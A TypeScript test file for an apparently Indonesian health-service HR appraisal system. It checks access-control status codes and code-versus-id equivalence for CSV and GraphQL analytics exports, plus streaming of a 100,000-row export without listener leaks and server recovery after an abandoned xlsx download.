  const byCode = (t: Target) => ({
    unitCode: t.unit === 'unknown' ? 'NO-SUCH-UNIT' : fx[t.unit].code.toLowerCase(),
    year: String(t.year),
  });

  eachCase<Actor, Target, number>({
    actors: ACTORS,
    rows: {
      'Pustu 2027': { unit: 'pustu', year: 2027 },
      'Puskesmas 2027 (outside the scoped HR admin’s subtree)': { unit: 'pkm', year: 2027 },
      'Dinkes 2026 (a closed year)': { unit: 'dinkes', year: 2026 },
      'an unknown code': { unit: 'unknown', year: 2027 },
      'a year without a period': { unit: 'pustu', year: 2031 },
    },
    // The status of the distribution export: a client without a role is nobody (401); a unit or period unknown or
    // out of reach is 404 for everyone.
    outcome: (t, actor) =>
      actor === 'client'
        ? 401
        : t.unit === 'unknown' ||
            t.year === 2031 ||
            actor === 'integration' ||
            (actor === 'scopedHr' && t.unit !== 'pustu')
          ? 404
          : 200,
    title: (c) => `${c.name} as ${c.actor}: ${c.outcome}, by code as by id`,
    check: async ({ row, actor, outcome }) => {
      const token = tokens[actor]!;
      for (const path of ['analytics/distribution.csv', 'analytics/completion.csv', 'appraisal-results.csv']) {
        const a = await getCsv(exportUrl(app, path, byId(row)), token);
        const b = await getCsv(exportUrl(app, path, byCode(row)), token);
        expect([path, b.status, b.text]).toEqual([path, a.status, a.text]);
        if (path === 'analytics/distribution.csv') expect(a.status).toBe(outcome);
      }
      const query = `query($u: ID, $c: String, $p: ID, $y: Int) { analytics(unitId: $u, unitCode: $c, periodId: $p, year: $y) { mode withheldUntilClosed ${WITH_CODES} } }`;
      const ids = byId(row);
      const codes = byCode(row);
      const a = await app.gql(query, { u: ids.unitId, p: ids.periodId }, token);
      const b = await app.gql(query, { c: codes.unitCode, y: row.year }, token);
      expect(b.body).toEqual(a.body);
      expect((a.body.data?.analytics ?? null) === null).toBe(outcome !== 200);
    },
  });
});

// ---- A 100,000-row export ------------------------------------------------------------------------------------

const ROWS = 100_000;

/**
 * Every line of a 100,000-row export arrives, and waiting for the client adds no listener per wait. That it streams
 * in flat memory is measured by `npm run reliability:analytics-export` (`reliability/analytics-export-memory.ts`):
 * a heap bound inside the suite depends on what else the process holds.
 */
describe('a 100,000-row appraisal-results export', () => {
  let app: TestApp;
  let lines = 0;
  /** The most 'close' listeners the server's response of the export had at once while it streamed. */
  let maxCloseListeners = 0;
  let xlsxUrl = '';
  let hr = '';

  beforeAll(async () => {
    app = await TestApp.start();
    const p = await new Planning(app).init();
    app.clock.set('2027-01-04T01:00:00Z');
    const period = await p.openPeriod(2027);
    const unitId = await givenApprovedPlans(app, period.id, ROWS);
    xlsxUrl = exportUrl(app, 'appraisal-results.xlsx', { unitId, periodId: period.id });
    hr = p.hr;
    // One export, streamed once for both tests below: they read what it did, neither depends on the other.
    let response: ServerResponse | undefined;
    const onRequest = (req: IncomingMessage, res: ServerResponse) => {
      if (req.url?.startsWith('/exports/appraisal-results.csv')) response = res;
    };
    // The server runs in this process: watch its response object for listeners piling up per backpressure wait.
    app.server.httpServer.prependListener('request', onRequest);
    const sampleListeners = () => {
      if (response) maxCloseListeners = Math.max(maxCloseListeners, response.listenerCount('close'));
    };
    const timer = setInterval(sampleListeners, 5);
    try {
      const res = await fetch(exportUrl(app, 'appraisal-results.csv', { unitId, periodId: period.id }), {
        headers: { authorization: `Bearer ${p.hr}` },
      });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      const reader = res.body!.getReader();
      for (;;) {
        const { done, value } = await reader.read();
        if (done) break;
        for (let i = 0; i < value.length; i++) if (value[i] === 10) lines += 1;
        sampleListeners();
      }
    } finally {
      clearInterval(timer);
      app.server.httpServer.off('request', onRequest);
    }
  }, 180_000);
  afterAll(() => app?.stop());

  it('streams 100,001 lines (a header and a line per plan)', () => {
    expect(lines).toBe(ROWS + 1);
  });

  it('adds no listener per backpressure wait while streaming (none left behind on the response until it ends)', () => {
    // Each wait for 'drain' must not leave a 'close'/'error' listener on the response: with one per wait they pile
    // up with the size of the export (Node warns "MaxListenersExceededWarning … close listeners added to [ServerResponse]").
    expect(maxCloseListeners).toBeGreaterThan(0);
    expect(maxCloseListeners).toBeLessThanOrEqual(10);
  });

  it('an xlsx export the client abandons half read leaves the server answering the next request', async () => {
    const abort = new AbortController();
    const res = await fetch(xlsxUrl, { headers: { authorization: `Bearer ${hr}` }, signal: abort.signal });
    expect(res.status).toBe(200);
    const reader = res.body!.getReader();
    // A zip begins with its local file header's signature, PK\x03\x04.
    const { value } = await reader.read();
    expect(Buffer.from(value!.subarray(0, 4)).toString('latin1')).toBe('PK\x03\x04');
    abort.abort();
    await reader.cancel().catch(() => undefined);
    const next = await app.gql<{ __typename: string }>('{ __typename }', {}, hr);
    expect(next.body.data).toEqual({ __typename: 'Query' });
  });
});
